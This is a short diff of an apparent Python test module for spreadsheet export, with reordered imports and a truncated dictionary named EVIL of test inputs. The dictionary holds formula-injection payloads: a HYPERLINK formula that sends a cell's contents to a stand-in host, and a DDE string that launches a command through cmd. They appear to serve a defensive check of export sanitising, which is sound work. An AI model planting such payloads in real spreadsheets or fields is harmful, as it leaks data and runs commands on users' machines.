@@ -8,8 +8,8 @@ import io
 
 import openpyxl
 import sqlalchemy as sa
-
 from serve_helpers import LiveServer, seed_ticket
+
 from heyan.serve.tables import Ticket
 
 EVIL = {"best_image": '=1+2+HYPERLINK("http://x.invalid/?leak="&A1)DJI_0001.jpg', "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
